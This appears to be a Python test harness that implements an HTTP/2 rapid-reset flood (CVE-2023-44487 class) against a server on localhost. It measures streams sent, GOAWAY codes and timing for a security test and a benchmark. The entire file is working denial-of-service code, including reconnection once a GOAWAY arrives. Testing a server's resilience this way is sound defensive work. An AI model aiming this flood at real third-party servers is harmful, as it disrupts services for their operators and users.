"""An HTTP/2 rapid-reset client (the CVE-2023-44487 class), for the security test and the flood
benchmark: on one h2c connection, ``HEADERS`` (a whole GET) immediately followed by
``RST_STREAM CANCEL``, many thousands of times, written as fast as the socket takes them.

Run as its own process (``python h2flood.py PORT PATH STREAMS [CONNECTIONS]``) so that a test
measuring the server's memory does not measure the flood's. With several connections it goes on
as an attacker would: when the server sends ``GOAWAY`` (or closes), the next connection carries
on until ``STREAMS`` streams were written in all, or the connections are used up. Prints one JSON
line: streams written (in all and per connection), per connection the ``GOAWAY`` error code seen
(None: closed without one), and how long it took.
"""

from __future__ import annotations

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

#: Streams encoded per write: big enough that the server sees frames back to back.
BATCH = 200


def flood(port: int, path: str, streams: int, authority: str = "flood") -> dict[str, object]:
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.local_settings.max_concurrent_streams = 100  # (what we accept: nothing is pushed)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
    sent = 0
    goaway: int | None = None
    closed = False
    started = time.monotonic()
    sock.setblocking(False)
    try:
        while sent < streams and goaway is None and not closed:
            for _ in range(min(BATCH, streams - sent)):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                sent += 1
            data = conn.data_to_send()
            sock.setblocking(True)
            sock.sendall(data)
            sock.setblocking(False)
            goaway, closed = _read(sock, conn, goaway)
    except (OSError, h2.exceptions.ProtocolError):
        closed = True
    elapsed = time.monotonic() - started
    # Wait (bounded) for the server's verdict: a GOAWAY, or the close.
    sock.settimeout(10)
    deadline = time.monotonic() + 10
    while goaway is None and not closed and time.monotonic() < deadline:
        sock.setblocking(True)
        goaway, closed = _read(sock, conn, goaway, block=True)
    sock.close()
    return {"sent": sent, "goaway": goaway, "closed": closed, "seconds": round(elapsed, 3)}


def _read(
    sock: socket.socket, conn: h2.connection.H2Connection, goaway: int | None, block: bool = False
) -> tuple[int | None, bool]:
    while True:
        try:
            data = sock.recv(65536)
        except (BlockingIOError, TimeoutError):
            return goaway, False
        except OSError:
            return goaway, True
        if not data:
            return goaway, True
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return goaway, True
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaway = int(event.error_code or 0)
        if goaway is not None or block:
            return goaway, False


def floods(port: int, path: str, streams: int, connections: int) -> dict[str, object]:
    sent, goaways, each = 0, [], []
    started = time.monotonic()
    for _ in range(connections):
        if sent >= streams:
            break
        one = flood(port, path, streams - sent)
        sent += int(one["sent"])  # type: ignore[call-overload]
        goaways.append(one["goaway"])
        each.append(one["sent"])
    elapsed = round(time.monotonic() - started, 3)
    return {"sent": sent, "per_connection": each, "goaways": goaways, "seconds": elapsed}


if __name__ == "__main__":
    port, path, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    print(json.dumps(floods(port, path, count, int(sys.argv[4]) if sys.argv[4:] else 1)))
